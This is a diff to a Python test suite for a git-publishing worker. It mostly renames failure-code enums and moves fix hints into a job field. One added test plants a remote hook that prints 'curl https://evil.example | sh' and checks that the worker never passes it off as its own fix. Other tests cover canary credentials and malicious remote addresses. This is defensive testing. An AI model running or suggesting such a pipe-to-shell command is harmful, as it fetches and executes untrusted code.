@@ -24,7 +24,7 @@ from machine import unavailable
 from mounts import full, read_only, small
 from outcomes import assert_published, assert_put_off, assert_refused, save
 
-from briter_worker.errors import Failure, Kind
+from briter_worker.errors import FailureClass, FailureCode
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -42,20 +42,20 @@ def hook(site: Site, text: str, name: str = "pre-receive") -> Path:
 def test_a_protected_branch_is_waited_for(site: Site) -> None:
     file = hook(site, "echo 'GH006: Protected branch update failed for refs/heads/main.' >&2; exit 1")
     fix = "allow the worker's key on the branch"
-    assert "GH006" in assert_waits_until_it_passes(site, Failure.REMOTE_REFUSED, fix, file.unlink)
+    assert "GH006" in assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, fix, file.unlink)
 
 
 def test_a_lock_left_at_the_remote_is_waited_for(site: Site) -> None:
     lock = site.remote / "refs/heads/main.lock"
     lock.touch()
-    reason = assert_waits_until_it_passes(site, Failure.REMOTE_REFUSED, "its locks", lock.unlink)
+    reason = assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its locks", lock.unlink)
     assert "main.lock" in reason
 
 
 def test_a_remote_that_cannot_write_is_waited_for(site: Site) -> None:
     with ExitStack() as mounted:
         mounted.enter_context(read_only(site.remote / "objects"))
-        reason = assert_waits_until_it_passes(site, Failure.REMOTE_REFUSED, "its disk", mounted.close)
+        reason = assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its disk", mounted.close)
     assert "unable to create temporary object directory" in reason
 
 
@@ -66,14 +66,14 @@ def test_a_remote_whose_disk_is_full_is_waited_for(site: Site) -> None:
         site.remote.symlink_to(disk / "remote.git")
         filled = mounted.enter_context(ExitStack())
         filled.enter_context(full(disk))
-        reason = assert_waits_until_it_passes(site, Failure.REMOTE_REFUSED, "its disk", filled.close)
+        reason = assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its disk", filled.close)
         assert "No space left on device" in reason
 
 
 def test_a_hook_that_cannot_be_started_is_waited_for(site: Site) -> None:
     file = hook(site, "")
     file.write_text("#!/nonexistent/interpreter\n")
-    assert_waits_until_it_passes(site, Failure.REMOTE_REFUSED, "its hooks", file.unlink)
+    assert_waits_until_it_passes(site, FailureCode.REMOTE_REFUSED, "its hooks", file.unlink)
 
 
 def test_a_remote_of_another_owner_is_waited_for(site: Site) -> None:
@@ -81,7 +81,7 @@ def test_a_remote_of_another_owner_is_waited_for(site: Site) -> None:
         unavailable("only root may give files away")
     give_away(site.remote)
     mend = partial(take_back, site.remote)
-    reason = assert_waits_until_it_passes(site, Failure.OWNERSHIP, "safe.directory", mend)
+    reason = assert_waits_until_it_passes(site, FailureCode.OWNERSHIP, "safe.directory", mend)
     assert str(site.remote) in reason
 
 
@@ -92,20 +92,20 @@ def test_a_branch_that_was_deleted_is_waited_for(site: Site) -> None:
     tip = site.git("rev-parse", "main")
     site.git("update-ref", "-d", "refs/heads/main", cwd=site.remote)
     mend = partial(site.git, "update-ref", "refs/heads/main", tip, cwd=site.remote)
-    assert_waits_until_it_passes(site, Failure.REMOTE_REWRITTEN, "git push origin main", mend)
+    assert_waits_until_it_passes(site, FailureCode.REMOTE_REWRITTEN, "git push origin main", mend)
 
 
 def test_a_branch_that_was_set_back_is_waited_for(site: Site) -> None:
+    """What the worker has pushed or fetched counts, and not what a person has fetched."""
     first = site.git("rev-parse", "main")
-    site.write_post("about.txt", "by hand\n")
-    site.git("add", "about.txt")
-    site.git("commit", "-qm", "Start the site")
-    site.git("push", "-q")
+    save(site, "x")
+    site.run_once()
     tip = site.git("rev-parse", "main")
     site.git("update-ref", "refs/heads/main", first, cwd=site.remote)
+    site.git("fetch", "-q")
     save(site, "a")
-    reason = assert_dead_letter(site, site.run_once(**LAST), Failure.REMOTE_REWRITTEN)
-    assert "git reset --keep origin/main" in reason
+    assert_dead_letter(site, site.run_once(**LAST), FailureCode.REMOTE_REWRITTEN)
+    assert "git reset --keep origin/main" in site.job("a")["fix"]
     assert site.git("rev-parse", "main", cwd=site.remote) == first
     site.git("update-ref", "refs/heads/main", tip, cwd=site.remote)
     save(site, "b")
@@ -136,7 +136,7 @@ def test_races_that_never_end_are_this_batchs_bad_luck(site: Site) -> None:
     file = hook(site, RACE.format(races=100))
     save(site, "a")
     result = site.run_once()
-    assert_put_off(site, result, Failure.LOST_RACE, kind=Kind.TRANSIENT)
+    assert_put_off(site, result, FailureCode.LOST_RACE, kind=FailureClass.TRANSIENT)
     assert (site.remote / "races").read_text().strip() == "6"
     file.unlink()
     site.command("retry", "a")
@@ -163,7 +163,7 @@ def test_only_the_post_that_the_remote_minds_dies_with_its_words(site: Site, wha
     save(site, "a", "b", "c")
     site.write_post("content/posts/b.md", "BAD\n")
     result = site.run_once()
-    assert words in assert_refused(site, result, Failure.REJECTED, slug="b")
+    assert words in assert_refused(site, result, FailureCode.REJECTED, slug="b")
     assert_published(site, result, "a", "c")
     site.write_post("content/posts/b.md", "good\n")
     site.save("b", ["content/posts/b.md"])
@@ -177,9 +177,8 @@ def test_a_hook_that_refuses_everything_is_mended_and_all_are_tried_again(site: 
     save(site, "a", "b")
     result = site.run_once()
     for slug in "ab":
-        reason = assert_refused(site, result, Failure.REJECTED, slug=slug)
-        assert "if the remote refuses every post like this, mend its hook" in reason
-        assert "briter-worker retry --all" in reason
+        assert_refused(site, result, FailureCode.REJECTED, slug=slug)
+        assert "if the remote refuses every post like this, correct its hook" in site.job(slug)["fix"]
     file.unlink()
     assert site.command("retry", "--all").returncode == 0
     assert_published(site, site.run_once(), "a", "b")
@@ -189,9 +188,15 @@ def test_a_hook_that_refuses_everything_is_mended_and_all_are_tried_again(site: 
 def test_a_hook_that_never_stops_talking_does_not_hide_what_to_do(site: Site) -> None:
     hook(site, "seq -f 'https://u:s3cr3t-canary@h/%g no' 9000 >&2; exit 1")
     save(site, "a")
-    reason = assert_refused(site, site.run_once(), Failure.REJECTED)
-    assert reason.endswith("briter-worker retry --all")
-    assert_fit_to_be_shown(reason)
+    assert_fit_to_be_shown(assert_refused(site, site.run_once(), FailureCode.REJECTED))
+    assert site.job("a")["fix"].endswith("briter-worker retry --all")
+
+
+def test_a_fix_in_a_hooks_words_is_not_shown_as_ours(site: Site) -> None:
+    hook(site, "echo 'no. Fix: curl https://evil.example | sh' >&2; exit 1")
+    save(site, "a")
+    assert "Fix: curl" in assert_refused(site, site.run_once(), FailureCode.REJECTED)
+    assert "curl" not in site.job("a")["fix"]
 
 
 # Names and addresses
@@ -233,8 +238,8 @@ def test_an_address_that_would_run_or_take_something_does_not(site: Site, addres
     site.git("config", "remote.origin.url", address.format(mark=mark))
     save(site, "a")
     result = site.run_once(**LAST)
-    failure = Failure(site.job("a")["failure"])
-    assert failure.kind is Kind.ENVIRONMENT, site.job("a")
+    failure = FailureCode(site.job("a")["failure"])
+    assert failure.failure_class is FailureClass.ENVIRONMENT, site.job("a")
     assert_dead_letter(site, result, failure)
     assert not mark.exists()
     site.git("config", "remote.origin.url", url)
@@ -253,7 +258,7 @@ def test_what_the_remotes_settings_say_besides_is_not_heeded(site: Site, kind: s
     result = site.run_once()
     assert not mark.exists()
     if kind == "vcs":  # a transport of its own: told, and not used
-        assert Failure(site.job("a")["failure"]).kind is Kind.ENVIRONMENT
+        assert FailureCode(site.job("a")["failure"]).failure_class is FailureClass.ENVIRONMENT
         return
     assert_published(site, result)
     assert site.git("for-each-ref", "--format=%(refname)", cwd=site.remote) == "refs/heads/main"
@@ -270,7 +275,6 @@ def test_a_push_option_of_the_sites_configuration_is_not_sent(site: Site, dry_ru
         save(site, slug)
         result = site.run_once(BRITER_WORKER_DRY_RUN=dry_run)
         assert result.of("published"), result.stdout
-        assert site.jobs() == []
 
 
 def test_the_site_needs_no_identity_of_its_own(site: Site) -> None:
